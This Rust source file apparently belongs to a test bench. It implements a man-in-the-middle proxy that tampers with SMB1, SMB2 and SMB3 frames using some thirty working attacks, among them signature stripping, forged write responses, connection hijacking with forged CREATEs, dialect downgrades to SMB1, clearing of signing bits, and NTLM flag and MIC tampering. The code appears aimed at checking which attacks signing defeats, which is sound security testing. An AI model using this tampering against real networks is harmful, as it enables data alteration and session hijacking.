//! The man in the middle: what each attack does to the frames that pass.

use crate::frame::{byte, find, put, replace, utf16};
use crate::proxy::{From, Tamper};

/// What the victim writes, and what the attacker makes of it.
pub(crate) const ORIGINAL: &[u8] = b"THESE-ARE-THE-ORIGINAL-BYTES";
pub(crate) const ALTERED: &[u8] = b"THESE-ARE-CHANGED-ON-THE-WAY";

/// What is done to the traffic.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Attack {
    /// Nothing: the control.
    None,
    /// Bytes of a WRITE are changed.
    AlterWrite,
    /// The same, and its signature is taken off.
    StripWrite,
    /// The name in a CREATE is changed.
    AlterName,
    /// Bytes of a READ response are changed.
    AlterRead,
    /// The same, and its signature is taken off.
    StripRead,
    /// A WRITE loses its second half, its response says that all was written.
    Truncate,
    /// A WRITE is kept from the server and answered by the attacker.
    Swallow,
    /// The first WRITE comes after the next request.
    Reorder,
    /// The first WRITE comes after the CLOSE; its response is the attacker's.
    Overtake,
    /// A CREATE is sent again after its file was deleted.
    Replay,
    /// A request of the attacker's takes the place of the last one: the logged-on
    /// TCP connection is taken over.
    Hijack,
    /// The same with the signature of an earlier message.
    StaleSignature,
    /// An unsigned request is put into one compound with a signed one (SMB1: an
    /// unsigned AndX chain).
    Splice,
    /// A request of the attacker's with a MessageId (MID) that was used.
    ReuseId,
    /// Signing is taken out of the server's NEGOTIATE, then a WRITE changed.
    ClearServerMode,
    /// Signing is taken out of the client's SESSION_SETUP, then a WRITE changed.
    ClearClientMode,
    /// The last SESSION_SETUP response says guest, unsigned; then a WRITE is changed.
    Guest,
    /// The signature of the last SESSION_SETUP response is taken off.
    StripSetup,
    /// The dialects above 2.1 are taken out of the client's NEGOTIATE.
    Dialect,
    /// The client is told that there is SMB1 only, then a WRITE is changed.
    ToSmb1,
    /// 3.1.1: the signing capabilities are taken out of the client's NEGOTIATE.
    NoSigningContext,
    /// 3.1.1: the client's signing algorithms change their order.
    SwapAlgorithms,
    /// 3.1.1: the client's ciphers change their order.
    SwapCiphers,
    /// 3.x: the server's encryption capability is taken away.
    NoEncryption,
    /// NTLM: the flags for signing are taken out of the client's first message.
    NtlmFlags,
    /// NTLM: extended session security and 128 bits are taken out of the challenge.
    NtlmChallenge,
    /// NTLM: the MIC is zeroed.
    NtlmMic,
    /// SPNEGO: the client's mechListMIC is changed.
    MechListMic,
    /// A bit of an encrypted message is flipped.
    AlterEncrypted,
    /// An encrypted message is sent again.
    ReplayEncrypted,
}

/// All, in the order of the tables.
pub(crate) const ALL: &[Attack] = &[
    Attack::None,
    Attack::AlterWrite,
    Attack::StripWrite,
    Attack::AlterName,
    Attack::AlterRead,
    Attack::StripRead,
    Attack::Truncate,
    Attack::Swallow,
    Attack::Reorder,
    Attack::Overtake,
    Attack::Replay,
    Attack::Hijack,
    Attack::StaleSignature,
    Attack::Splice,
    Attack::ReuseId,
    Attack::ClearServerMode,
    Attack::ClearClientMode,
    Attack::Guest,
    Attack::StripSetup,
    Attack::Dialect,
    Attack::ToSmb1,
    Attack::NoSigningContext,
    Attack::SwapAlgorithms,
    Attack::SwapCiphers,
    Attack::NoEncryption,
    Attack::NtlmFlags,
    Attack::NtlmChallenge,
    Attack::NtlmMic,
    Attack::MechListMic,
    Attack::AlterEncrypted,
    Attack::ReplayEncrypted,
];

impl Attack {
    /// In words, for the tables.
    pub(crate) fn words(self) -> &'static str {
        match self {
            Attack::None => "none (control)",
            Attack::AlterWrite => "change a WRITE",
            Attack::StripWrite => "change a WRITE, strip its signature",
            Attack::AlterName => "change the name in a CREATE",
            Attack::AlterRead => "change a READ response",
            Attack::StripRead => "change a READ response, strip its signature",
            Attack::Truncate => "truncate a WRITE, mend its response",
            Attack::Swallow => "drop a WRITE, forge its response",
            Attack::Reorder => "reorder WRITEs",
            Attack::Overtake => "let the CLOSE overtake a WRITE, forge its response",
            Attack::Replay => "replay a CREATE",
            Attack::Hijack => "hijack the connection: forged CREATE, unsigned",
            Attack::StaleSignature => "hijack: forged CREATE with an old signature",
            Attack::Splice => "unsigned request in a compound / AndX chain",
            Attack::ReuseId => "forged CREATE with a used MessageId / MID",
            Attack::ClearServerMode => "clear the server's signing bits, change a WRITE",
            Attack::ClearClientMode => "clear the client's signing bits, change a WRITE",
            Attack::Guest => "declare the session guest, change a WRITE",
            Attack::StripSetup => "strip the signature of the last SESSION_SETUP",
            Attack::Dialect => "downgrade 3.x to 2.x",
            Attack::ToSmb1 => "downgrade to SMB1, change a WRITE",
            Attack::NoSigningContext => "remove the signing capabilities",
            Attack::SwapAlgorithms => "swap signing algorithms",
            Attack::SwapCiphers => "swap ciphers",
            Attack::NoEncryption => "remove the encryption capability",
            Attack::NtlmFlags => "strip NTLM's signing flags",
            Attack::NtlmChallenge => "weaken NTLM's challenge",
            Attack::NtlmMic => "zero NTLM's MIC",
            Attack::MechListMic => "change SPNEGO's mechListMIC",
            Attack::AlterEncrypted => "change an encrypted message",
            Attack::ReplayEncrypted => "replay an encrypted message",
        }
    }

    /// Why it succeeds nowhere, also without signing; `None`: it does somewhere, which
    /// shows that the bench would see it.
    pub(crate) fn never(self) -> Option<&'static str> {
        Some(match self {
            Attack::None => "the control",
            Attack::Reorder => {
                "each WRITE says where its bytes belong, so their order is no matter; \
                 in signed SMB1 it ends the connection"
            }
            Attack::Dialect => {
                "3.1.1 has the hash of NEGOTIATE in its keys, 3.0 and 3.0.2 ask again in a \
                 signed FSCTL_VALIDATE_NEGOTIATE_INFO, also on sessions that are unsigned"
            }
            Attack::NoSigningContext | Attack::SwapAlgorithms | Attack::SwapCiphers => {
                "the hash of NEGOTIATE is in the keys, and the last SESSION_SETUP response is \
                 signed with one, also on sessions that are unsigned"
            }
            Attack::NoEncryption => "a client that requires encryption goes no further",
            Attack::NtlmFlags | Attack::NtlmChallenge | Attack::NtlmMic => {
                "the MIC is over all three messages, and that there is one is under the \
                 password's proof"
            }
            Attack::MechListMic => "SPNEGO verifies it where it is sent",
            Attack::AlterEncrypted | Attack::ReplayEncrypted => {
                "a session without encryption has no such message; AEAD, and the MessageId inside"
            }
            _ => return None,
        })
    }

    /// Whether the attack makes sense in a dialect.
    pub(crate) fn applies(self, dialect: &str) -> bool {
        let v3 = dialect.starts_with("SMB3");
        match self {
            Attack::Dialect | Attack::AlterEncrypted | Attack::ReplayEncrypted => v3,
            Attack::NoSigningContext
            | Attack::SwapAlgorithms
            | Attack::SwapCiphers
            | Attack::ToSmb1 => dialect == "SMB3_11",
            Attack::NoEncryption => v3,
            _ => true,
        }
    }
}

/// One attacker on one connection.
pub(crate) struct Man {
    attack: Attack,
    create: Option<Vec<u8>>,
    whole: Option<Vec<u8>>,
    /// The client's next MessageId.
    next_id: u64,
    held: Option<Vec<u8>>,
    /// The request whose response is not the server's alone.
    late: Option<usize>,
    cut: Option<u32>,
    done: bool,
    back: Vec<Vec<u8>>,
}

impl Man {
    pub(crate) fn new(attack: Attack) -> Self {
        Self {
            attack,
            create: None,
            whole: None,
            next_id: 0,
            held: None,
            late: None,
            cut: None,
            done: false,
            back: Vec::new(),
        }
    }
}

fn u16_at(frame: &[u8], at: usize) -> usize {
    usize::from(byte(frame, at)) | usize::from(byte(frame, at + 1)) << 8
}

fn u32_at(frame: &[u8], at: usize) -> usize {
    u16_at(frame, at) | u16_at(frame, at + 2) << 16
}

fn smb1(frame: &[u8]) -> bool {
    frame.starts_with(b"\xffSMB")
}

fn smb2(frame: &[u8]) -> bool {
    frame.starts_with(b"\xfeSMB")
}

/// The command, with SMB1's above 0x100.
fn command(frame: &[u8]) -> usize {
    if smb1(frame) {
        0x100 | usize::from(byte(frame, 4))
    } else {
        u16_at(frame, 12)
    }
}

/// MessageId, its lower half; SMB1's MID.
fn message_id(frame: &[u8]) -> usize {
    if smb1(frame) {
        u16_at(frame, 30)
    } else {
        u32_at(frame, 24)
    }
}

fn status(frame: &[u8]) -> usize {
    u32_at(frame, if smb1(frame) { 5 } else { 8 })
}

/// Takes the signature off every message of a frame.
fn unsign(frame: &mut [u8]) {
    if smb1(frame) {
        let flags2 = byte(frame, 10) & !0x04;
        put(frame, 10, &[flags2]);
        put(frame, 14, &[0; 8]);
        return;
    }
    let mut at = 0;
    loop {
        let flags = byte(frame, at + 16) & !0x08;
        put(frame, at + 16, &[flags]);
        put(frame, at + 48, &[0; 16]);
        match u32_at(frame, at + 20) {
            n if n > 0 && at + n < frame.len() => at += n,
            _ => return,
        }
    }
}

/// Changes the WRITE that the victim's bytes are in, and strips it.
fn alter_and_strip(frame: &mut [u8]) -> bool {
    let hit = replace(frame, ORIGINAL, ALTERED);
    if hit {
        unsign(frame);
    }
    hit
}

/// Negotiate contexts of a 3.1.1 NEGOTIATE: kind, offset and length of the data.
fn contexts(frame: &[u8], request: bool) -> Vec<(usize, usize, usize)> {
    let (count, mut at) = if request {
        (u16_at(frame, 96), u32_at(frame, 92))
    } else {
        (u16_at(frame, 70), u32_at(frame, 124))
    };
    let mut out = Vec::new();
    for _ in 0..count.min(16) {
        let length = u16_at(frame, at + 2);
        if at + 8 + length > frame.len() {
            break;
        }
        out.push((u16_at(frame, at), at, length));
        at += (8 + length).next_multiple_of(8);
    }
    out
}

/// The identifiers of a list behind its count, the other way round.
fn turn_round(frame: &mut [u8], kind: usize) -> bool {
    let Some((_, at, _)) = contexts(frame, true).into_iter().find(|c| c.0 == kind) else {
        return false;
    };
    let count = u16_at(frame, at + 8);
    let ids: Vec<u8> = (0..count)
        .rev()
        .flat_map(|n| [byte(frame, at + 10 + 2 * n), byte(frame, at + 11 + 2 * n)])
        .collect();
    put(frame, at + 10, &ids);
    count > 1
}

/// A WRITE response that says that all was written.
fn forged_write_response(request: &[u8]) -> Vec<u8> {
    if smb1(request) {
        let mut out = request.get(..32).unwrap_or_default().to_vec();
        put(&mut out, 9, &[0x88]);
        put(&mut out, 14, &[0; 8]);
        let (low, high) = (u16_at(request, 53), u16_at(request, 51));
        out.extend([6, 0xFF, 0, 0, 0]);
        for v in [low, 0, high, 0] {
            out.extend(u16::try_from(v).unwrap_or(0).to_le_bytes());
        }
        out.extend([0, 0]);
        return out;
    }
    let mut out = request.get(..64).unwrap_or_default().to_vec();
    unsign(&mut out);
    let charge = [byte(request, 6).max(1), byte(request, 7)];
    put(&mut out, 14, &charge);
    put(&mut out, 16, &[1]);
    out.extend([17, 0, 0, 0]);
    out.extend(request.get(68..72).unwrap_or_default());
    out.extend([0; 9]);
    out
}

/// The kept CREATE with the name of the attacker, in place of `last`.
fn forged_create(create: &[u8], last: &[u8], stale: bool) -> Vec<u8> {
    let mut forged = create.to_vec();
    replace(&mut forged, &utf16("victim"), &utf16("forged"));
    replace(&mut forged, b"victim", b"forged");
    if smb1(create) {
        // MID of the message it replaces.
        put(&mut forged, 30, last.get(30..32).unwrap_or_default());
    } else {
        // Without oplock and contexts: the victim's lease is for its own file.
        put(&mut forged, 67, &[0]);
        put(&mut forged, 112, &[0; 8]);
        put(&mut forged, 24, last.get(24..32).unwrap_or_default());
    }
    if !stale {
        unsign(&mut forged);
    }
    forged
}

/// The MessageId behind the last one of a frame.
fn following(frame: &[u8]) -> u64 {
    let mut at = 0;
    loop {
        let id = u32_at(frame, at + 24) as u64;
        match u32_at(frame, at + 20) {
            n if n > 0 && at + n < frame.len() => at += n,
            _ => return id + u16_at(frame, at + 6).max(1) as u64,
        }
    }
}

/// The first part of a compound, as a message of its own.
fn alone(frame: &[u8]) -> Vec<u8> {
    let next = if smb2(frame) { u32_at(frame, 20) } else { 0 };
    if next == 0 || next >= frame.len() {
        return frame.to_vec();
    }
    let mut part = frame.get(..next).unwrap_or_default().to_vec();
    put(&mut part, 20, &[0; 4]);
    part
}

/// An SMB1 CREATE with READ_ANDX chained behind it.
fn chained(mut create: Vec<u8>) -> Vec<u8> {
    if create.len() % 2 == 1 {
        create.push(0);
    }
    let at = u16::try_from(create.len()).unwrap_or(0);
    put(&mut create, 33, &[0x2E]);
    put(&mut create, 35, &at.to_le_bytes());
    create.extend([12, 0xFF, 0, 0, 0]);
    create.extend([0; 6]);
    create.extend([16, 0, 16, 0]);
    create.extend([0; 10]);
    create.extend([0, 0]);
    create
}

/// The forged CREATE before the victim's own last message, in one compound.
fn compounded(forged: Vec<u8>, last: &[u8]) -> Vec<u8> {
    let mut out = forged;
    out.resize(out.len().next_multiple_of(8), 0);
    let next = u32::try_from(out.len()).unwrap_or(0);
    put(&mut out, 20, &next.to_le_bytes());
    // The next MessageId; the victim's own keeps its.
    let id = u32_at(last, 24) as u64 + 1;
    put(&mut out, 24, &id.to_le_bytes());
    out.extend_from_slice(last);
    out
}

impl Tamper for Man {
    fn frame(&mut self, from: From, mut frame: Vec<u8>) -> (Vec<Vec<u8>>, bool) {
        let client = from == From::Client;
        if client && smb2(&frame) {
            self.next_id = self.next_id.max(following(&frame));
        }
        // One that makes the file; FILE_OPEN makes none.
        let opens = smb2(&frame) && byte(&frame, 100) == 1;
        let is_create = client
            && !opens
            && matches!(command(&frame), 5 | 0x1A2 | 0x12D)
            && (find(&frame, &utf16("victim")).is_some() || find(&frame, b"victim").is_some());
        if is_create && self.create.is_none() && !frame.starts_with(b"\xfdSMB") {
            self.create = Some(alone(&frame));
            self.whole = Some(frame.clone());
        }
        // CLOSE, or the farewells behind it.
        let ends = client
            && matches!(command(&frame), 6 | 4 | 2 | 0x104 | 0x171 | 0x174)
            && status(&frame) == 0;
        let changed = match self.attack {
            Attack::None => false,
            Attack::AlterWrite => client && replace(&mut frame, ORIGINAL, ALTERED),
            Attack::StripWrite => client && alter_and_strip(&mut frame),
            Attack::AlterName if client => replace(&mut frame, &utf16("victim"), &utf16("forged")),
            Attack::AlterRead => !client && replace(&mut frame, ORIGINAL, ALTERED),
            Attack::StripRead => !client && alter_and_strip(&mut frame),
            Attack::Truncate => self.truncate(client, &mut frame),
            Attack::Swallow if client && find(&frame, ORIGINAL).is_some() => {
                self.back.push(forged_write_response(&frame));
                return (Vec::new(), true);
            }
            Attack::Reorder if client => return self.reorder(frame),
            Attack::Overtake => return self.overtake(client, frame),
            Attack::Replay if client => {
                let trigger = find(&frame, &utf16("trigger")).is_some();
                if !self.done
                    && trigger
                    && let Some(create) = &self.whole
                {
                    self.done = true;
                    return (vec![create.clone(), frame], true);
                }
                false
            }
            Attack::Hijack | Attack::StaleSignature | Attack::Splice | Attack::ReuseId
                if ends && !self.done =>
            {
                return self.forge(frame);
            }
            Attack::ClearServerMode if !client && command(&frame) == 0x172 => {
                let mode = byte(&frame, 35) & !0x0C;
                put(&mut frame, 35, &[mode]);
                true
            }
            Attack::ClearServerMode if !client && smb2(&frame) && command(&frame) == 0 => {
                let mode = byte(&frame, 66) & !0x02;
                put(&mut frame, 66, &[mode]);
                true
            }
            Attack::ClearClientMode if client && command(&frame) == 0x173 => {
                let flags2 = byte(&frame, 10) & !0x14;
                put(&mut frame, 10, &[flags2]);
                true
            }
            Attack::ClearClientMode if client && smb2(&frame) && command(&frame) == 1 => {
                let mode = byte(&frame, 67) & !0x02;
                put(&mut frame, 67, &[mode]);
                true
            }
            Attack::Guest if !client && command(&frame) == 1 && status(&frame) == 0 => {
                unsign(&mut frame);
                let flags = byte(&frame, 66) | 1;
                put(&mut frame, 66, &[flags]);
                true
            }
            Attack::Guest if !client && command(&frame) == 0x173 && status(&frame) == 0 => {
                unsign(&mut frame);
                let action = byte(&frame, 37) | 1;
                put(&mut frame, 37, &[action]);
                true
            }
            Attack::StripSetup
                if !client && matches!(command(&frame), 1 | 0x173) && status(&frame) == 0 =>
            {
                unsign(&mut frame);
                true
            }
            Attack::ToSmb1 if client && command(&frame) == 0x172 => {
                while replace(&mut frame, b"SMB 2", b"XXX 2") {}
                true
            }
            Attack::ToSmb1 if client && smb2(&frame) && command(&frame) == 0 => {
                // A client that starts with SMB2 is not answered.
                return (Vec::new(), true);
            }
            Attack::ClearServerMode
            | Attack::ClearClientMode
            | Attack::Guest
            | Attack::StripSetup
            | Attack::ToSmb1 => client && alter_and_strip(&mut frame),
            Attack::Dialect if client && smb2(&frame) && command(&frame) == 0 => {
                put(&mut frame, 66, &[2, 0]);
                put(&mut frame, 100, &[0x02, 0x02, 0x10, 0x02]);
                true
            }
            Attack::NoSigningContext if client && smb2(&frame) && command(&frame) == 0 => {
                let found = contexts(&frame, true).into_iter().find(|c| c.0 == 8);
                if let Some((_, at, _)) = found {
                    put(&mut frame, at, &[0x77, 0x77]);
                }
                found.is_some()
            }
            Attack::SwapAlgorithms if client && smb2(&frame) && command(&frame) == 0 => {
                turn_round(&mut frame, 8)
            }
            Attack::SwapCiphers if client && smb2(&frame) && command(&frame) == 0 => {
                turn_round(&mut frame, 2)
            }
            Attack::NoEncryption if !client && smb2(&frame) && command(&frame) == 0 => {
                let capabilities = byte(&frame, 88) & !0x40;
                put(&mut frame, 88, &[capabilities]);
                if let Some((_, at, _)) = contexts(&frame, false).into_iter().find(|c| c.0 == 2) {
                    put(&mut frame, at + 10, &[0, 0]);
                }
                true
            }
            Attack::NtlmFlags if client => ntlm(&mut frame, 1, |message| {
                let flags = u32_at(message, 12) & !0x8030;
                put(
                    message,
                    12,
                    &u32::try_from(flags).unwrap_or(0).to_le_bytes(),
                );
            }),
            Attack::NtlmChallenge if !client => ntlm(&mut frame, 2, |message| {
                let flags = u32_at(message, 20) & !0x2008_0000;
                put(
                    message,
                    20,
                    &u32::try_from(flags).unwrap_or(0).to_le_bytes(),
                );
            }),
            Attack::NtlmMic if client => ntlm(&mut frame, 3, |message| {
                put(message, 72, &[0; 16]);
            }),
            Attack::MechListMic if client => {
                let is_last = find(&frame, b"NTLMSSP\0\x03\0\0\0").is_some();
                // [3] { OCTET STRING (16) { version 1 ...
                let at = find(&frame, &[0xA3, 0x12, 0x04, 0x10, 1, 0, 0, 0]);
                if let Some(at) = at.filter(|_| is_last) {
                    let turned = byte(&frame, at + 8) ^ 1;
                    put(&mut frame, at + 8, &[turned]);
                    true
                } else {
                    false
                }
            }
            Attack::AlterEncrypted
                if client && frame.starts_with(b"\xfdSMB") && frame.len() > 3000 =>
            {
                let at = frame.len() - 100;
                let turned = byte(&frame, at) ^ 1;
                put(&mut frame, at, &[turned]);
                true
            }
            Attack::ReplayEncrypted
                if client && frame.starts_with(b"\xfdSMB") && frame.len() > 3000 =>
            {
                return (vec![frame.clone(), frame], true);
            }
            _ => false,
        };
        (vec![frame], changed)
    }

    fn ended(&mut self, from: From) -> Vec<Vec<u8>> {
        let forges = matches!(
            self.attack,
            Attack::Hijack | Attack::StaleSignature | Attack::ReuseId
        );
        if from != From::Client || !forges || self.done || self.create.is_none() {
            return Vec::new();
        }
        // A client that says no goodbye: what would have come next.
        let mut next = vec![0; 64];
        match self.create.as_deref().is_some_and(smb2) {
            true => put(&mut next, 24, &self.next_id.to_le_bytes()),
            false => put(&mut next, 30, &[0x77, 0x77]),
        }
        self.forge(next).0
    }

    fn answers(&mut self) -> Vec<Vec<u8>> {
        std::mem::take(&mut self.back)
    }
}

impl Man {
    fn truncate(&mut self, client: bool, frame: &mut Vec<u8>) -> bool {
        if client && !self.done && find(frame, ORIGINAL).is_some() {
            self.done = true;
            self.late = Some(message_id(frame));
            let (length, half, data) = if smb1(frame) {
                let (length, data) = (u16_at(frame, 53), u16_at(frame, 55));
                let half = length / 2;
                let bytes = u16::try_from(half).unwrap_or(0).to_le_bytes();
                put(frame, 53, &bytes);
                let words = usize::from(byte(frame, 32)) * 2;
                let count = u16_at(frame, 33 + words).saturating_sub(length - half);
                let count = u16::try_from(count).unwrap_or(0).to_le_bytes();
                put(frame, 33 + words, &count);
                (length, half, data)
            } else {
                let (length, data) = (u32_at(frame, 68), u16_at(frame, 66));
                let half = length / 2;
                put(frame, 68, &u32::try_from(half).unwrap_or(0).to_le_bytes());
                (length, half, data)
            };
            frame.truncate(data + half);
            self.cut = u32::try_from(length).ok();
            return true;
        }
        let answer = !client
            && matches!(command(frame), 9 | 0x12F)
            && status(frame) == 0
            && self.late == Some(message_id(frame));
        if let Some(length) = self.cut.take_if(|_| answer) {
            match smb1(frame) {
                true => put(frame, 37, length.to_le_bytes().get(..2).unwrap_or_default()),
                false => put(frame, 68, &length.to_le_bytes()),
            }
            return true;
        }
        false
    }

    fn reorder(&mut self, frame: Vec<u8>) -> (Vec<Vec<u8>>, bool) {
        if let Some(first) = self.held.take() {
            return (vec![frame, first], true);
        }
        if !self.done && find(&frame, ORIGINAL).is_some() {
            self.done = true;
            self.held = Some(frame);
            return (Vec::new(), false);
        }
        (vec![frame], false)
    }

    fn overtake(&mut self, client: bool, frame: Vec<u8>) -> (Vec<Vec<u8>>, bool) {
        if !client {
            // The client has its answer to that WRITE already.
            let late = self.late.is_some_and(|id| id == message_id(&frame));
            return match late && matches!(command(&frame), 9 | 0x12F) {
                true => (Vec::new(), true),
                false => (vec![frame], false),
            };
        }
        if !self.done && find(&frame, ORIGINAL).is_some() {
            self.done = true;
            self.late = Some(message_id(&frame));
            self.back.push(forged_write_response(&frame));
            self.held = Some(frame);
            return (Vec::new(), true);
        }
        if matches!(command(&frame), 6 | 0x104)
            && let Some(write) = self.held.take()
        {
            return (vec![frame, write], true);
        }
        (vec![frame], false)
    }

    /// Puts the attacker's request in place of the victim's last one.
    fn forge(&mut self, frame: Vec<u8>) -> (Vec<Vec<u8>>, bool) {
        let Some(create) = self.create.clone() else {
            return (vec![frame], false);
        };
        self.done = true;
        let forged = match self.attack {
            Attack::StaleSignature => forged_create(&create, &frame, true),
            Attack::ReuseId => forged_create(&create, &create, false),
            Attack::Splice if smb1(&create) => chained(forged_create(&create, &frame, false)),
            Attack::Splice => compounded(forged_create(&create, &frame, false), &frame),
            _ => forged_create(&create, &frame, false),
        };
        (vec![forged], true)
    }
}

/// Changes the NTLM message of a type in a frame.
fn ntlm(frame: &mut [u8], kind: u8, change: impl Fn(&mut [u8])) -> bool {
    let mut signature = b"NTLMSSP\0".to_vec();
    signature.extend([kind, 0, 0, 0]);
    match find(frame, &signature).and_then(|at| frame.get_mut(at..)) {
        Some(message) => {
            change(message);
            true
        }
        None => false,
    }
}
